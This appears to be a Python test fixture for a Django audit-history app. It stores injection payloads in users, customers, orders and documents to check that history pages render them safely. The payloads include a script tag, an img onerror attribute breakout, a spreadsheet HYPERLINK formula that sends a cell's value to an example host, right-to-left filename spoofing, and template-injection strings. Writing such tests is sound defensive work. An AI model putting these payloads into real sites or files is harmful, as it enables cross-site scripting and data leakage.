"""Values that break pages which trust them: markup, quotes, marks of direction, formulas, and far too much."""

from __future__ import annotations

from typing import Final

from django.contrib.auth.models import User

from audittrail import history
from tests.testapp.models import Customer, Document, Order, Tag

MARKUP: Final = "<script>document.title = 'broken into'</script>"
ATTRIBUTE: Final = "\"'><img src=/static/none onerror=\"document.title = 'broken into'\">"
FORMULA: Final = '=HYPERLINK("http://example.com/?"&A1)'
DIRECTION: Final = "\u202egnp.exe\u2066 \u200f!"
TEMPLATE: Final = "{{ request.user.password }} {% now 'Y' %} ${1 + 1}"
ALL: Final = f"{MARKUP} {ATTRIBUTE} {DIRECTION} {TEMPLATE}"
MUCH: Final = "word " * 200_000


def make() -> tuple[Customer, Document]:
    """Write hostile values into every place that a page of history shows, in a few revisions; return two of the objects."""
    user = User.objects.create(username=ALL[:150], first_name=MARKUP, is_staff=True)
    with history.context(
        user=user, reason=ALL, **{MARKUP: ATTRIBUTE, "path": ALL, "command": ATTRIBUTE}
    ):
        customer = Customer.objects.create(name=ALL[:100], email=f"{FORMULA[:60]}@x.example")
    with history.context(user=user, reason=FORMULA):
        Order.objects.create(
            customer=customer,
            reference=MARKUP[:20],
            details={MARKUP: [ATTRIBUTE, {DIRECTION: "null byte: \\u0000"}], "": FORMULA},
        )
        document = Document.objects.create(title=ALL[:200], owner=user, body=MUCH)
        Tag.objects.create(name=MARKUP[:50])
    with history.context(user=user, reason=DIRECTION):
        Document.objects.update(title=ATTRIBUTE, body=f"{MARKUP} {MUCH}")
        Customer.objects.update(name=ATTRIBUTE)
    return customer, document
